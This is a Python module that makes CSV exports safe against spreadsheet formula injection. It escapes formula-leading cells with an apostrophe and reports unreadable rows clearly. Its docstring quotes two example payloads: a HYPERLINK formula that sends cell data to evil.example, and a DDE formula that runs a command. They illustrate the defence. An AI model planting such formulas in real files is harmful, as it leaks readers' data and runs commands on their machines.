"""CSV files that are safe to open in a spreadsheet: every CSV Cadre writes goes through
`writer` (the engine's command-line tools, the web pages' downloads, the exports).

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula, and some
also do after a tab or a carriage return; a name, a commitment or a note written as
`=HYPERLINK("http://evil.example/?"&A1, "open")` or `=cmd|' /c calc'!A0` would run in the
reader's spreadsheet. Such text is written with a leading apostrophe (`'=HYPERLINK(...)`),
which every spreadsheet shows as plain text; the rest of the text is kept as it was.

Numbers are not text: an int, a float or a Decimal is written as it is, and so is a text
cell that is exactly a plain number (`-3`, `+4.5`, `-1,200`, `2.5e-3`), which Cadre writes
for the figures it computes itself. No spreadsheet runs a plain number, so keeping `-3` as a
number is safe and lets the reader sum the column.

`unquote` undoes the apostrophe, for the commands that read back a file Cadre wrote (an
earlier ROUNDS.csv as the history of `cadre rotate`).

Reading goes through `rows`, which says what is wrong with a file the csv module cannot read
(a cell over its field limit, most often a quotation mark left open) in words a person can act
on, with the line, instead of the module's own message. A NUL character is refused too: the
csv module reads it, but PostgreSQL cannot store it and no person meant to type it."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any, Protocol

# What a spreadsheet may read as the start of a formula (or, for tab and carriage return, as
# a cell separator or line end that hides one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def is_plain_number(text: str) -> bool:
    """True for a number as Cadre writes it: an optional sign, digits (thousands separated by
    commas or not), an optional decimal part and exponent. Nothing else."""
    return _PLAIN_NUMBER.fullmatch(text) is not None


def cell(value: object) -> object:
    """`value` ready for a CSV cell: text that a spreadsheet would run as a formula gets a
    leading apostrophe; numbers, plain-number text and everything else are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not is_plain_number(value):
        return QUOTE + value
    return value


def unquote(text: str) -> str:
    """The text `cell` was given: drops the apostrophe it added, leaves any other text."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class Writer:
    """csv.writer whose every cell goes through `cell`."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> Writer:
    """A CSV writer on `out` (a file opened with newline="", an HttpResponse, a StringIO)
    that neutralises formula text; `options` are csv.writer's (lineterminator, dialect...)."""
    return Writer(out, **options)


class Unreadable(ValueError):
    """The csv module could not read a file; `line` is where the bad row starts."""

    def __init__(self, line: int, reason: str) -> None:
        super().__init__(f"line {line}: {reason}")
        self.line = line
        self.reason = reason


NUL_REASON = "the file holds a NUL character; save it again as a UTF-8 CSV file."


def _reason(error: csv.Error) -> str:
    text = str(error)
    if "field larger than field limit" in text:
        return (
            f"a cell is longer than {csv.field_size_limit():,} characters; "
            "is a quotation mark left open?"
        )
    return f"this is not a readable CSV file ({text})."


def rows(lines: Iterable[str], **options: Any) -> Iterator[tuple[int, list[str]]]:
    """(line number, cells) for each row of a CSV file opened with newline=""; the number
    is the line the row starts on. Raises Unreadable for a file the csv module cannot read."""
    reader = csv.reader(lines, **options)
    start = 1
    while True:
        try:
            values = next(reader)
        except StopIteration:
            return
        except csv.Error as error:
            raise Unreadable(start, _reason(error)) from None
        if any("\0" in value for value in values):
            raise Unreadable(start, NUL_REASON)
        yield start, values
        start = reader.line_num + 1
